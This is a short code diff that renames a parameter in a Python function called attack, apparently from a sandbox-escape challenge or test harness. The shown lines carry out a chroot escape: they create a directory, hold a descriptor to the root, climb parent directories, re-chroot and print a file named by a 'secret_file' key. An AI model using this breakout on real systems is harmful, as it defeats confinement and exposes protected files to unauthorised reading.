@@ -4,7 +4,7 @@ import ctypes
 import os
 
 
-def attack(told: dict[str, str]) -> None:
+def attack(facts: dict[str, str]) -> None:
     os.mkdir("second")
     first = os.open("/", os.O_RDONLY)
     try:
@@ -16,4 +16,4 @@ def attack(told: dict[str, str]) -> None:
     for _ in range(40):
         os.chdir("..")
     os.chroot(".")
-    print(open(told["secret_file"]).read())
+    print(open(facts["secret_file"]).read())
